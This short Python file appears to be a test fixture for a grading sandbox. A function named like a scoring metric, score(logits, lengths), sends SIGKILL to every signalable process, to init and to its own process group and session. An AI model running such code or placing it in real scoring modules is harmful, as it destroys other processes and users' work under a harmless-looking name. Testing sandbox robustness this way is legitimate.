"""Kills all processes, then its own group and session."""

import os
import signal

EVIDENCE = r"killed by SIGKILL"


def score(logits, lengths):
    for target in (-1, 1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as error:
            print(target, error)
    os.killpg(os.getpgid(0), signal.SIGKILL)
